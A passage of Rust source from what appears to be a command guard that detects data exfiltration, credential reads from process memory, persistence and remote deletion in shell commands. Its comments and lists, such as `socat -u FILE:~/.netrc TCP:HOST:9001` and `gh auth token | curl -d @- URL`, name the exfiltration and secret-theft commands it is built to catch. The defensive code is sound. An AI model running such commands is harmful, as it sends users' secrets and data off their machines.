            }
        }
        Does::KillUser => {}
        Does::CopyToRemote => {
            let remote = |w: &&str| super::spec::Val::Remote.holds(w);
            // `scp host:/x ~/.bashrc`, `aws s3 cp s3://b/x /etc/cron.d/x`: fetched from a remote
            // source into a local destination, written there as `cp` writes it.
            if operands.last().is_some_and(|d| !remote(d)) && operands.iter().rev().skip(1).any(remote) {
                for p in copy_destinations(cmd, operands) {
                    written(cmd, &p, at(&p), out);
                }
                return;
            }
            let Some(dest) = operands.last().filter(|d| remote(d)) else {
                return;
            };
            let sources: Vec<&&str> = operands[..operands.len() - 1]
                .iter()
                .filter(|s| !super::spec::Val::Remote.holds(s))
                .collect();
            let recursive = cmd
                .argv
                .iter()
                .any(|a| is_flag(a, "-r") || is_flag(a, "-a") || a == "--recursive" || a == "--archive");
            judge_upload(cmd, sources.iter().map(|s| **s), recursive, dest, ctx, out);
        }
        Does::DestroyRemote => {
            let name = cmd.name();
            // Pods are restarted by their controller, a chart release is reinstalled from its
            // chart: routine, left to the category rules.
            let routine = (matches!(name, "kubectl" | "oc")
                && operands
                    .iter()
                    .any(|o| matches!(*o, "pod" | "pods" | "po") || o.starts_with("pod/") || o.starts_with("pods/")))
                || (name == "helm" && operands.first().is_some_and(|o| matches!(*o, "uninstall" | "delete")))
                || super::table::manages_the_cli_itself(&cmd.argv);
            let what =
                "deletes resources of a remote service or cloud account: nothing on this machine brings them back";
            if !routine {
                out.push(block(Category::Deletion, INFRASTRUCTURE, Risk::Critical, cmd, what));
            }
        }
        Does::ShareFiles => {
            let files: Vec<&str> = operands
                .iter()
                .copied()
                .filter(|o| !matches!(*o, "upload" | "send" | "share"))
                .collect();
            if files.is_empty() {
                out.push(warn(
                    Category::Exfiltration,
                    UPLOAD,
                    cmd,
                    "hands data to a file-sharing service",
                ));
            } else {
                judge_upload(cmd, files.into_iter(), false, "a file-sharing service", ctx, out);
            }
        }
        Does::RegistersFile => registered(cmd, operands, ctx, out),
        Does::RunsPrograms => {
            for dir in operands {
                let place = at(dir);
                if place == Place::Temp && cmd.as_root {
                    out.push(block(
                        Category::Privilege,
                        ROOT_FROM_TEMP,
                        Risk::Critical,
                        cmd,
                        format!(
                            "runs every program in {dir}, a temp directory, as root: whoever can write there gets root"
                        ),
                    ));
                } else if matches!(place, Place::Temp | Place::Unknown) {
                    out.push(warn(
                        Category::Privilege,
                        ROOT_FROM_TEMP,
                        cmd,
                        format!("runs every program in {dir}, whatever was put there"),
                    ));
                }
            }
        }
        Does::ReadsProcess => reads_process(cmd, out),
        // Judged by `fixed_verdict` above.
        _ => {}
    }
}

/// Unit files and property lists registered where they lie (`systemctl link FILE`, `launchctl
/// load FILE`): one in a temp directory or a hidden directory outside the workspace is planted
/// (anyone could have written it); any other is warned, like enabling a service.
fn registered(cmd: &SimpleCommand, operands: &[&str], ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    let cwd = cmd.cwd.as_deref();
    // `gui/501`, `system`: launchd domains, not files.
    let file = operands.iter().find(|o| {
        o.contains('/')
            && !["gui/", "user/", "system/", "login/", "pid/"]
                .iter()
                .any(|d| o.starts_with(d))
    });
    if let Some(file) = file {
        let place = place_of(file, cwd, ctx.workspace);
        let hidden = file.split('/').any(|c| c.len() > 1 && c.starts_with('.') && c != "..");
        let planted = place == Place::Temp || (hidden && !matches!(place, Place::Workspace | Place::WorkspaceAll));
        if planted {
            out.push(block(
                Category::Persistence,
                SCHEDULED,
                Risk::Critical,
                cmd,
                format!("registers {file}, from a temp or hidden directory, as a service the system runs"),
            ));
        } else {
            out.push(warn(
                Category::Persistence,
                SCHEDULED,
                cmd,
                format!("registers {file} as a service the system runs"),
            ));
        }
    }
}

/// Processes whose memory holds other accounts' keys and passwords, by their exact names:
/// login daemons, agents holding keys, password managers. A debugger's words naming one
/// ([`reads_process`]) or a program handed one's process id ([`handed_secret_holder`]) is
/// there to read them.
const SECRET_HOLDERS: &[&str] = &[
    "sshd",
    "ssh-agent",
    "gpg-agent",
    "sudo",
    "login",
    "passwd",
    "gnome-keyring",
    "gnome-keyring-daemon",
    "kwalletd",
    "kwalletd5",
    "kwalletd6",
    "keepass",
    "keepassxc",
    "1password",
    "bitwarden",
    "lsass",
    "secretd",
];

/// Processes that hold secrets among much else: browsers (cookies, saved passwords), a vault
/// server. A debugger dumping or tracing one reads them; a script handed one's process id is
/// as likely to be watching it (`python3 monitor.py --pid $(pgrep chrome)`).
const HOLDS_SECRETS_AMONG_OTHERS: &[&str] = &["chrome", "firefox", "vault"];

/// `sudo python3 dump.py $(pidof gnome-keyring-daemon)`, `zorp -p $(pgrep -n ssh-agent)`: an
/// interpreter or a program the guard does not know, handed the process id of a process that
/// holds others' secrets, is there to read it (signalling, renicing or listing it is done by
/// programs the guard knows).
fn handed_secret_holder(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    // Cheap first: most commands look no process up.
    if !cmd
        .argv
        .iter()
        .skip(1)
        .any(|a| a.contains("pidof ") || a.contains("pgrep "))
    {
        return;
    }
    let name = cmd.name();
    // Programs that signal, schedule, limit or list a process by its number.
    const PROCESS_CONTROL: &[&str] = &[
        "kill",
        "pkill",
        "killall",
        "renice",
        "taskset",
        "chrt",
        "ionice",
        "prlimit",
        "cpulimit",
        "ps",
        "top",
        "htop",
        "pstree",
        "pwdx",
        "lsof",
        "wait",
        "watch",
        "tail",
        "disown",
        "echo",
        "printf",
        "pmap",
        "pidstat",
        "iotop",
        "cgclassify",
        "cgexec",
        "xdotool",
        "wmctrl",
        "perf",
        "nsenter",
        "prtstat",
    ];
    let reader = name.starts_with("python")
        || matches!(name, "perl" | "ruby" | "node" | "php" | "lua")
        || crate::guard::carriers::is_shell(name)
        || (!PROCESS_CONTROL.contains(&name) && runs_unknown_program(cmd));
    // `bash -c 'kill -HUP $(pidof sshd)'`: the script a shell carries is judged on its own.
    let carries_a_script = crate::guard::carriers::is_shell(name) && cmd.argv.iter().skip(1).any(|a| a == "-c");
    if !reader || carries_a_script {
        return;
    }
    let holder_pid = cmd.argv[1..].iter().any(|a| {
        ["$(pidof ", "$(pgrep ", "`pidof ", "`pgrep "].iter().any(|lookup| {
            a.match_indices(lookup).any(|(at, m)| {
                let looked_up = &a[at + m.len()..];
                let looked_up = &looked_up[..looked_up.find([')', '`']).unwrap_or(looked_up.len())];
                looked_up
                    .split_whitespace()
                    .filter(|w| !w.starts_with('-'))
                    .any(|w| SECRET_HOLDERS.contains(&crate::guard::basename(w.trim_matches(['"', '\'', '^', '$']))))
            })
        })
    });
    if holder_pid {
        out.push(block(
            Category::Secrets,
            PROCESS_MEMORY,
            Risk::Critical,
            cmd,
            "is handed the process id of a process holding others' secrets (a login daemon, a key agent, a password store), to read it",
        ));
    }
}

/// `gcore PID`, `gdb -p PID`, `strace -p PID`: another process's memory or system calls read.
/// A core dump, a process that holds others' secrets (`sshd`, `ssh-agent`), or the data a
/// process reads and writes traced as root is credential access (block); attaching a debugger
/// or a tracer to a process by number is how one debugs one's own server, and passes.
fn reads_process(cmd: &SimpleCommand, out: &mut Vec<Violation>) {
    let dump = cmd.name() == "gcore"
        || cmd.name() == "procdump"
        || cmd.argv.iter().any(|a| {
            crate::guard::ascii::contains_lowercase(a, "generate-core-file")
                || crate::guard::ascii::contains_lowercase(a, "gcore ")
                || crate::guard::ascii::contains_lowercase(a, "dump memory")
        });
    let holder = cmd.argv[1..].iter().any(|a| {
        SECRET_HOLDERS
            .iter()
            .chain(HOLDS_SECRETS_AMONG_OTHERS)
            .any(|h| crate::guard::ascii::contains_lowercase(a, h))
    });
    // `sudo strace -p PID -e trace=read,write -s 4096`: the data another user's process reads
    // and writes, captured as root.
    let data = cmd.as_root
        && cmd.argv.iter().any(|a| {
            let a = a.to_ascii_lowercase();
            (a.contains("trace=") || a.starts_with("read=") || a.starts_with("write="))
                && (a.contains("read") || a.contains("write"))
        });
    if dump || holder || data {
        out.push(block(
            Category::Secrets,
            PROCESS_MEMORY,
            Risk::Critical,
            cmd,
            "reads another process's memory or system calls, with the secrets it holds",
        ));
    }
}

/// A path that names a directory rather than a file: a trailing slash, or a last component
/// without an extension.
fn looks_like_dir(p: &str) -> bool {
    if p.ends_with('/') {
        return true;
    }
    let last = p.rsplit('/').next().unwrap_or(p);
    !last.contains('.')
        && !last.is_empty()
        && !last.contains(['*', '?'])
        && last != "Makefile"
        && last != "Dockerfile"
        && last.chars().any(|c| c.is_ascii_lowercase())
}

/// Sources sent to `dest`: the whole workspace, a directory sent recursively, or anything
/// from home or the system is blocked; single workspace files are warned.
fn judge_upload<'a>(
    cmd: &SimpleCommand,
    sources: impl Iterator<Item = &'a str>,
    recursive: bool,
    dest: &str,
    ctx: &GuardContext<'_>,
    out: &mut Vec<Violation>,
) {
    let cwd = cmd.cwd.as_deref();
    let mut worst: Option<(Recommendation, String)> = None;
    for s in sources {
        let place = place_of(s, cwd, ctx.workspace);
        let base = s.rsplit('/').next().unwrap_or(s);
        // A secret file (`.env`, `credentials.json`, a private key) leaving is a leak wherever
        // it lives.
        let secret =
            crate::guard::rules::exfiltration::sensitive(s) || crate::guard::rules::secrets::credential_named(base);
        let rec = match place {
            _ if secret => Recommendation::Block,
            Place::WorkspaceAll
            | Place::Home
            | Place::Startup
            | Place::Logs
            | Place::System
            | Place::Persistence
            | Place::Outside
            | Place::VcsMeta
            | Place::Kernel
            | Place::Device => Recommendation::Block,
            Place::Unknown if recursive => Recommendation::Block,
            // Scratch files are still data leaving the machine.
            Place::Temp => Recommendation::Warn,
            Place::Sink => continue,
            _ => Recommendation::Warn,
        };
        if worst.as_ref().is_none_or(|(r, _)| rec > *r) {
            worst = Some((rec, s.to_string()));
        }
    }
    if let Some((rec, what)) = worst {
        let description = format!("sends {what} to {dest}, off this machine");
        out.push(match rec {
            Recommendation::Block => block(Category::Exfiltration, UPLOAD, Risk::High, cmd, description),
            _ => warn(Category::Exfiltration, UPLOAD, cmd, description),
        });
    }
}

/// `curl -F f=@P`, `-T P`, `--data-binary @P`, `wget --post-file=P` to a host that is not
/// this machine.
/// A request body read from a workspace file (`-d @payload.json`) is an API call's payload,
/// not a transfer: only upload options are judged for workspace files.
fn http_upload(cmd: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    if let Some((files, host)) = http_uploads(cmd) {
        let cwd = cmd.cwd.as_deref();
        let files = files
            .iter()
            .filter(|(f, body)| !(*body && place_of(f, cwd, ctx.workspace) == Place::Workspace))
            .map(|(f, _)| f.as_str());
        judge_upload(cmd, files, false, &host, ctx, out);
    }
}

/// The files an HTTP client's upload options send (each marked when it is a request body),
/// and the remote host they go to.
fn http_uploads(cmd: &SimpleCommand) -> Option<(Vec<(String, bool)>, String)> {
    let name = cmd.name();
    if !matches!(name, "curl" | "wget" | "http" | "https" | "xh") {
        return None;
    }
    let argv = &cmd.argv;
    let mut files: Vec<(String, bool)> = Vec::new();
    for i in 1..argv.len() {
        let a = argv[i].as_str();
        let next = argv.get(i + 1).map(String::as_str);
        let (opt, value) = match a.split_once('=') {
            Some((o, v)) if o.starts_with("--") => (o, Some(v)),
            _ => (a, next),
        };
        let data = |v: &str| v.strip_prefix('@').map(str::to_string);
        match opt {
            "-F" | "--form" | "--form-string" => {
                let file = value
                    .and_then(|v| v.split_once('='))
                    .and_then(|(_, rhs)| rhs.strip_prefix('@').or_else(|| rhs.strip_prefix('<')));
                files.extend(file.map(|p| (p.split(';').next().unwrap_or(p).to_string(), false)));
            }
            "-T" | "--upload-file" | "--post-file" | "--data-binary" => {
                files.extend(value.map(|v| (v.strip_prefix('@').unwrap_or(v).to_string(), false)))
            }
            "-d" | "--data" | "--data-raw" | "--data-urlencode" | "--json" | "--body-file" => {
                files.extend(
                    value
                        .and_then(data)
                        .or_else(|| (opt == "--body-file").then(|| value.unwrap_or("").to_string()))
                        .map(|f| (f, true)),
                );
            }
            _ => {}
        }
    }
    // httpie: `http POST host @file`, `field@file`.
    if matches!(name, "http" | "https" | "xh") {
        files.extend(argv.iter().skip(1).filter_map(|a| {
            a.split_once('@')
                .filter(|(k, _)| !k.contains(':') && !k.contains('/'))
                .map(|(_, f)| (f.to_string(), false))
        }));
    }
    files.retain(|(f, _)| !f.is_empty() && f != "-" && f != "/dev/stdin");
    if files.is_empty() {
        return None;
    }
    Some((files, destination(argv)?))
}

/// The host of the first URL (or, with none, of the first host-looking argument), None when
/// it is this machine.
fn destination(argv: &[String]) -> Option<String> {
    let url = argv.iter().skip(1).find(|a| a.contains("://")).or_else(|| {
        argv.iter()
            .skip(1)
            .find(|a| a.contains('.') && !a.starts_with('-') && !a.starts_with('@') && !a.contains('='))
    })?;
    let rest = url.split_once("://").map(|(_, r)| r).unwrap_or(url);
    let host = rest.split(['/', '?']).next().unwrap_or(rest);
    let host = host.rsplit_once('@').map(|(_, h)| h).unwrap_or(host);
    let bare = host.rsplit_once(':').map(|(h, _)| h).unwrap_or(host);
    if matches!(bare, "localhost" | "127.0.0.1" | "[::1]" | "::1" | "0.0.0.0")
        || bare.starts_with("127.")
        || bare.is_empty()
    {
        return None;
    }
    Some(host.to_string())
}

/// Does `cmd` send its stdin over the network?
fn reads_stdin_to_network(cmd: &SimpleCommand) -> bool {
    let argv = &cmd.argv;
    let has = |f: &str| argv.iter().any(|a| a == f);
    match cmd.name() {
        "curl" => {
            argv.windows(2).any(|w| {
                matches!(w[0].as_str(), "-T" | "--upload-file") && w[1] == "-"
                    || matches!(
                        w[0].as_str(),
                        "-d" | "--data" | "--data-binary" | "--data-raw" | "--data-urlencode"
                    ) && w[1] == "@-"
                    || matches!(w[0].as_str(), "-F" | "--form") && w[1].ends_with("=@-")
            }) || argv.iter().any(|a| a == "--data-binary=@-" || a == "--upload-file=-")
        }
        "wget" => argv
            .iter()
            .any(|a| a == "--post-file=/dev/stdin" || a == "--body-file=/dev/stdin"),
        "nc" | "ncat" | "netcat" | "telnet" => !has("-l") && argv.len() >= 3,
        "ssh" => argv
            .iter()
            .skip(1)
            .any(|a| !a.starts_with('-') && (a.contains('@') || a.contains('.'))),
        "socat" => {
            argv.iter().any(|a| a == "-" || a.eq_ignore_ascii_case("stdin"))
                && argv
                    .iter()
                    .any(|a| a.to_ascii_lowercase().starts_with("tcp") || a.to_ascii_lowercase().starts_with("openssl"))
        }
        "http" | "https" | "xh" => true,
        // `openssl s_client -connect HOST:443 < .env`: what it reads is sent on the connection.
        "openssl" => argv.get(1).is_some_and(|s| s == "s_client") && !has("-help"),
        _ => false,
    }
}

/// `socat -u FILE:~/.netrc TCP:HOST:9001`: the files a socat reads from, when its other
/// address is a network connection.
fn socat_file_sources(cmd: &SimpleCommand) -> Vec<&str> {
    if cmd.name() != "socat" {
        return Vec::new();
    }
    let addresses: Vec<&str> = cmd.argv[1..]
        .iter()
        .filter(|a| !a.starts_with('-') || a.len() == 1)
        .map(String::as_str)
        .collect();
    // A connection to another host: `TCP:HOST:PORT`, `OPENSSL:HOST:PORT` (not a listener,
    // not loopback).
    let remote = addresses.iter().any(|a| {
        let l = a.to_ascii_lowercase();
        let connects = ["tcp", "udp", "openssl", "sctp", "socks", "proxy"]
            .iter()
            .any(|p| l.starts_with(p))
            && !l.contains("-listen");
        // Past the address type: `HOST:PORT`, `[::1]:80`.
        let target = a.split_once(':').map_or("", |(_, rest)| rest);
        connects && !loopback_address(target)
    });
    if !remote {
        return Vec::new();
    }
    // `-u` sends the first address's data to the second, `-U` the second's to the first.
    let sending: &[&str] = if cmd.argv.iter().any(|a| a == "-u") {
        &addresses[..addresses.len().min(1)]
    } else if cmd.argv.iter().any(|a| a == "-U") {
        addresses.get(1..2).unwrap_or(&[])
    } else {
        &addresses
    };
    sending
        .iter()
        .filter_map(|a| {
            let (kind, rest) = a.split_once(':')?;
            matches!(kind.to_ascii_lowercase().as_str(), "file" | "open" | "gopen")
                .then(|| rest.split(',').next().unwrap_or(rest))
        })
        .collect()
}

/// Whether the effect model says `cmd` prints a secret (a token, a secret store's value, a
/// cluster's secrets: [`Does::ReadSecret`]).
fn emits_secret(cmd: &SimpleCommand) -> bool {
    spec_for(cmd.name())
        .filter(|_| !shown_not_done(&cmd.argv))
        .is_some_and(|spec| {
            spec.effects(&cmd.argv[1..])
                .iter()
                .any(|(c, _)| c.does == Does::ReadSecret)
        })
}

/// `tar czf - ~ | curl -T - ...`: what the commands before the sender pack or print is sent.
fn piped_upload(before: &[SimpleCommand], sender: &SimpleCommand, ctx: &GuardContext<'_>, out: &mut Vec<Violation>) {
    if sender.name() == "ssh" && sends_only_to_loopback(sender) {
        return;
    }
    let mut sources: Vec<String> = Vec::new();
    let mut recursive = false;
    for c in before {
        match c.name() {
            "tar" | "bsdtar" | "zip" | "7z" | "cpio" | "pax" | "rar" => {
                recursive = true;
                let archive = archive_file(c);
                sources.extend(
                    c.argv
                        .iter()
                        .skip(1)
                        .filter(|a| !a.starts_with('-') && Some(a.as_str()) != archive.as_deref() && !is_tar_mode(a))
                        .cloned(),
                );
            }
            "cat" | "gzip" | "bzip2" | "xz" | "zstd" | "base64" | "xxd" | "openssl" | "gpg" | "head" | "tail" => {
                sources.extend(c.argv.iter().skip(1).filter(|a| !a.starts_with('-')).cloned());
            }
            // `git diff | curl -F f=@- ..`: the repository's contents, as changes or a whole
            // archive.
            "git" => match c.argv[1..].iter().find(|a| !a.starts_with('-')).map(String::as_str) {
                Some("archive" | "bundle") => {
                    recursive = true;
                    sources.push(".".into());
                }
                // What a workspace file's contents would be: warned.
                Some(sub @ ("diff" | "show" | "log" | "format-patch" | "stash" | "blame")) => {
                    sources.push(format!("the output of git {sub}"))
                }
                _ => {}
            },
            _ => {}
        }
    }
    let dest = sent_to(sender);
    let dumper = before
        .iter()
        .find(|c| dumps_a_database(c))
        .filter(|_| !sends_only_to_loopback(sender));
    let secret = before
        .iter()
        .find(|c| emits_secret(c))
        .filter(|_| !sends_only_to_loopback(sender));
    if sources.is_empty() && dumper.is_none() && secret.is_none() {
        return;
    }
    let cmd = SimpleCommand {
        argv: before
            .iter()
            .chain(std::iter::once(sender))
            .flat_map(|c| c.argv.clone())
            .collect(),
        ..sender.clone()
    };
    // `gh auth token | curl -d @- URL`, `kubectl get secrets -A -o yaml | curl -T - URL`: a
    // secret the effect model knows a command prints, sent away.
    if let Some(source) = secret {
        out.push(block(
            Category::Exfiltration,
            UPLOAD,
            Risk::Critical,
            &cmd,
            format!(
                "sends the secret `{}` prints to {dest}, off this machine",
                source.display()
            ),
        ));
        return;
    }
    // `pg_dump prod | gzip | curl -T - URL`, `mysqldump --all-databases | nc HOST 9001`: every
    // row of a database leaves.
    if let Some(dumper) = dumper {
        out.push(block(
            Category::Exfiltration,
            UPLOAD,
            Risk::High,
            &cmd,
            format!(
                "sends a dump of a database (`{}`) to {dest}, off this machine",
                dumper.name()
            ),
        ));
        return;
    }
    judge_upload(&cmd, sources.iter().map(String::as_str), recursive, &dest, ctx, out);
}

/// Where a network sender sends: its first operand (a host or URL) past an HTTP method
/// (`http POST HOST`), or "a remote host".
fn sent_to(sender: &SimpleCommand) -> String {
    const METHODS: &[&str] = &["GET", "POST", "PUT", "PATCH", "DELETE", "HEAD", "OPTIONS"];
    sender
        .argv
        .iter()
        .skip(1)
        .find(|a| !a.starts_with('-') && a.as_str() != "@-" && !METHODS.contains(&a.as_str()))
        .cloned()
        .unwrap_or_else(|| "a remote host".into())
}

/// Whether every address `sender` names is this machine's (`nc localhost 8080`, `socat -
/// TCP:127.0.0.1:80`, `http POST localhost:8000/items`): every word, or option value, that
/// looks like a host or URL, and at least one. A proxy, a jump host or a source address
/// beside it (`-x http://HOST`, `-J HOST`) is an address too, so it does not pass.
fn sends_only_to_loopback(sender: &SimpleCommand) -> bool {
    let mut addresses = sender.argv[1..].iter().filter_map(|a| match a.strip_prefix('-') {
        Some(_) => a.split_once('=').map(|(_, v)| v),
        None => Some(a.as_str()),
    });
    let mut named = false;
    let all_loopback = addresses.all(|a| {
        // A remote command (`ssh HOST 'cat > k.tgz'`) is no address; `user@host` is one.
        let host = a.rsplit_once('@').map_or(a, |(_, h)| h);
        let address =
            !a.contains(char::is_whitespace) && (host.contains(['.', ':']) || host.eq_ignore_ascii_case("localhost"));
        named |= address;
        !address || loopback_address(a)
    });
    named && all_loopback
}

/// Whether `word` names this machine exactly: `localhost`, `127.0.0.1`, `[::1]`, with a
/// scheme, a user, a port or a path around it (`TCP:localhost:80`, `http://127.0.0.1:3000/x`,
/// `dev@localhost`); not `localhost.example.com` nor `127.example.com`.
fn loopback_address(word: &str) -> bool {
    let lower = word.to_ascii_lowercase();
    let rest = lower.split_once("://").map_or(lower.as_str(), |(_, r)| r);
    let rest = ["tcp4:", "tcp6:", "tcp:", "openssl:", "ssl:"]
        .iter()
        .find_map(|p| rest.strip_prefix(p))
        .unwrap_or(rest);
    let rest = rest.split('/').next().unwrap_or(rest);
    let host = rest.rsplit_once('@').map_or(rest, |(_, h)| h);
    if let Some(v6) = host.strip_prefix('[') {
        return v6.split(']').next() == Some("::1");
    }
    if host == "::1" {
        return true;
    }
    let host = host.split(':').next().unwrap_or(host);
    let ipv4_loopback = host.starts_with("127.")
        && host.split('.').count() == 4
        && host
            .split('.')
            .all(|p| !p.is_empty() && p.chars().all(|c| c.is_ascii_digit()));
    matches!(host, "localhost" | "ip6-localhost" | "ip6-loopback" | "localhost6") || ipv4_loopback
}

/// Whether `cmd` prints a whole database: a dump program writing to stdout (`pg_dump prod`,
/// `mysqldump --all-databases`, `mongodump --archive`), or sqlite3's `.dump`.
fn dumps_a_database(cmd: &SimpleCommand) -> bool {
    let writes_a_file = cmd.argv.iter().any(|a| {
        matches!(a.as_str(), "-f" | "--file" | "-r" | "--result-file" | "-o" | "--out")
            || a.starts_with("--file=")
            || a.starts_with("--result-file=")
            || a.starts_with("--out=")
    });
    match cmd.name() {
        "pg_dump" | "pg_dumpall" | "mysqldump" | "mariadb-dump" => !writes_a_file,
        "mongodump" => cmd.argv.iter().any(|a| a == "--archive"),
        "sqlite3" => {
            cmd.argv.iter().any(|a| a.trim() == ".dump")
                || cmd.stdin_text.as_deref().is_some_and(|t| t.contains(".dump"))
        }
        _ => false,
    }
}

/// Options whose value is where a program puts its output, whatever the program.
const OUTPUT_OPTIONS: &[&str] = &[
    "-o",
    "-out",
    "--output",
    "--out",
    "--outfile",
    "--output-file",
    "--out-file",
    "--output-document",
    "--output-dir",
    "--output-directory",
    "--outdir",
    "--out-dir",
    "--log-file",
    "--logfile",
    "--junit-xml",
    "--junitxml",
    "-fprint",
    "-fprintf",
    "-fprint0",
    "-fls",
    "--save-to",
    "--result-file",
    "-oN",
    "-oG",
    "-oX",
    "-oA",
];

/// Programs whose `-o` is not their output: a listing's format or columns (`ls -o`, `ps -o`,
/// `lsblk -o`, `journalctl -o`, `kubectl -o`), a match, an offset or the oldest process (`grep
/// -o`, `lsof -o`, `pgrep -o`), mount or connection options (`mount -o`, `ssh -o`), keeping
/// owners or overwriting (`rsync -o`, `tar -o`, `unzip -o`), a non-unique id (`useradd -o`), a
/// setting (`apt-get -o Dir::Cache=..`), an interface (`iptables -o eth0`), or "or" (`find`,
/// `test`).
const O_IS_NOT_OUTPUT: &[&str] = &[
    "ls",
    "dir",
    "vdir",
    "lsof",
    "ps",
    "pgrep",
    "pkill",
    "pidof",
    "grep",
    "egrep",
    "fgrep",
    "rg",
    "zgrep",
    "find",
    "test",
    "[",
    "journalctl",
    "kubectl",
    "oc",
    "helm",
    "lsblk",
    "findmnt",
    "blkid",
    "fdisk",
    "sfdisk",
    "mount",
    "umount",
    "ssh",
    "scp",
    "sftp",
    "autossh",
    "sshfs",
    "rsync",
    "tar",
    "unzip",
    "useradd",
    "usermod",
    "groupadd",
    "groupmod",
    "xargs",
    "ip",
    "od",
    "join",
    "netstat",
    "ss",
    "iostat",
    "free",
    "top",
    "htop",
    "df",
    "du",
    "cut",
    "apt",
    "apt-get",
    "apt-cache",
    "iptables",
    "ip6tables",
    "make",
    "xxd",
    "hexdump",
    "az",
    "ansible",
];

/// The files and folders a program writes by the option or operand that names its output:
/// an output option's value (`sort -o F`, `openssl enc -out F`, `--outFile=F` in any case,
/// find's `-fprintf F`, a value glued to `-o` that is a path: `7z x -o/etc/x`), and the
/// program's own spellings: wget's `-O F`, an extractor's folder (`unzip -d DIR`, `cpio -D
/// DIR`), the prefix of `split IN PREFIX` and `csplit -f PREFIX`, the output operand of `uniq
/// IN OUT`, the archive of `zip ARCHIVE ..`, the key file of `ssh-keygen -f F` when it makes
/// a key, wget's folder (`-P DIR`), what curl writes besides the body (`-D`, `-c`, `--trace`).
/// Output letters count at the end of a bundle (`sort -no F`) and glued to a path (`-f/x`).
/// `-` (stdout) is no file.
fn output_targets(cmd: &SimpleCommand) -> Vec<&str> {
    let name = cmd.name();
    let args = &cmd.argv[1..];
    // A word of one-letter options (`-qf`, `-lo`), its letters.
    fn letters(a: &str) -> Option<&str> {
        a.strip_prefix('-')
            .filter(|l| !l.is_empty() && l.bytes().all(|b| b.is_ascii_alphabetic()))
    }
    // `-cf/x`: the letters before a glued value.
    fn leading_letters(a: &str) -> Option<&str> {
        let l = a.strip_prefix('-').filter(|l| !l.starts_with('-'))?;
        Some(&l[..l.find(|c: char| !c.is_ascii_alphabetic()).unwrap_or(l.len())])
    }
    // `tar -cf F`, `tar czf F`, `tar --create --file=F`: the archive made.
    let tar_creates = name == "tar"
        && args.iter().enumerate().any(|(k, a)| {
            a == "--create"
                || a == "--append"
                || leading_letters(a)
                    .or_else(|| (k == 0 && is_tar_mode(a)).then_some(a.as_str()))
                    .is_some_and(|l| l.contains(['c', 'r']))
        });
    let own: &[&str] = match name {
        "wget" => &[
            "-O",
            "-a",
            "--append-output",
            "-P",
            "--directory-prefix",
            "--save-cookies",
        ],
        // What curl writes besides the body: headers, cookies, traces, its own error output,
        // the C source of the transfer.
        "curl" => &[
            "-D",
            "--dump-header",
            "-c",
            "--cookie-jar",
            "--trace",
            "--trace-ascii",
            "--stderr",
            "--libcurl",
            "--etag-save",
            "--hsts",
            "--alt-svc",
        ],
        "tar" if tar_creates => &["-f", "--file"],
        "unzip" => &["-d"],
        "cpio" => &["-D", "--directory"],
        "csplit" | "split" => &["-f", "--prefix"],
        // Without an option that only reads a key (`-l`, `-y`, `-D`, ..), `-f` is the key written.
        "ssh-keygen"
            if !args
                .iter()
                .filter_map(|a| letters(a))
                .any(|l| l.contains(|c| "lyDBFRHe".contains(c))) =>
        {
            &["-f"]
        }
        _ => &[],
    };
    // `ls -o`, `lsof -o`, `ps -o`, `mount -o`, `ssh -o`: letters of their own there.
    let o_is_output = !O_IS_NOT_OUTPUT.contains(&name);
    let named = |o: &str| {
        (OUTPUT_OPTIONS.contains(&o) && (o != "-o" || o_is_output))
            || own.contains(&o)
            || (o.starts_with("--") && OUTPUT_OPTIONS.iter().any(|x| x.eq_ignore_ascii_case(o)))
    };
    // `sort -no F`, `unzip -qod DIR`, `ssh-keygen -qf F`, `-o/etc/x`, `csplit -f/etc/x`: an
    // output letter in a bundle of one-letter options takes the rest of the word when that is a
    // path, else the next word.
    fn bundled<'a>(a: &'a str, next: Option<&'a str>, named: impl Fn(&str) -> bool) -> Option<&'a str> {
        let letter = |c: char| c.is_ascii() && std::str::from_utf8(&[b'-', c as u8]).is_ok_and(&named);
        let b = crate::guard::options::bundle(a, letter)?;
        b.value_letter?;
        match b.glued {
            Some(v) => Some(v).filter(|v| v.starts_with(['/', '~'])),
            None => next,
        }
    }
    let mut out = Vec::new();
    for (k, a) in args.iter().enumerate() {
        if a == "--" {
            break;
        }
        let target = match a.split_once('=') {
            Some((o, v)) if named(o) => Some(v),
            None if named(a) => args.get(k + 1).map(String::as_str),
            // tar's old syntax: `tar czf F`, the mode word without its dash.
            None if tar_creates && k == 0 && is_tar_mode(a) && a.ends_with('f') => args.get(1).map(String::as_str),
            _ => bundled(a, args.get(k + 1).map(String::as_str), named),
        };
        out.extend(target.filter(|t| !t.starts_with('-')));
    }
    let value_opts: &[&str] = match name {
        "uniq" => &["-f", "-s", "-w", "--skip-fields", "--skip-chars", "--check-chars"],
        "split" => &[
            "-a",
            "-b",
            "-C",
            "-l",
            "-n",
            "-t",
            "--bytes",
            "--lines",
            "--number",
            "--line-bytes",
            "--suffix-length",
            "--additional-suffix",
            "--separator",
            "--filter",
        ],
        "zip" => &[
            "-b", "-n", "-t", "-tt", "-P", "-Z", "-s", "-sb", "-x", "-i", "-O", "--out",
        ],
        _ => &[],
    };
    match (name, positional_words(args, value_opts).as_slice()) {
        ("uniq" | "split", [_, target]) => out.push(target),
        ("zip", [archive, ..]) if *archive != "-" => out.push(archive),
        // `7z a ARCHIVE FILES`, `7z u ARCHIVE ..`: the archive made or updated.
        ("7z" | "7za" | "7zz" | "7zr", [command, archive, ..]) if matches!(*command, "a" | "u") => out.push(archive),
        _ => {}
    }
    out
}

/// `tar czf` / `cvf`: the bundled mode word of tar's old syntax.
fn is_tar_mode(word: &str) -> bool {
    word.len() <= 6 && word.chars().all(|c| "cxtzjJvfpPaOr".contains(c)) && word.contains(['c', 'x', 't'])
}

/// The archive a packer writes: `tar -cf X`, `tar czf X`, `zip X ...`, `7z a X ...`; `-` is
/// stdout.
fn archive_file(cmd: &SimpleCommand) -> Option<String> {
    let argv = &cmd.argv;
    match cmd.name() {
        "tar" | "bsdtar" => {
            for (i, a) in argv.iter().enumerate().skip(1) {
                if let Some(v) = a.strip_prefix("--file=") {
                    return Some(v.to_string());
                }
                let bundle = a.strip_prefix('-').unwrap_or(a);
                let is_bundle = (a.starts_with('-') && !a.starts_with("--")) || (i == 1 && is_tar_mode(a));
                if is_bundle && bundle.contains('f') {
                    return argv.get(i + 1).cloned();
                }
                if a == "--file" {
                    return argv.get(i + 1).cloned();
                }
            }
            None
        }
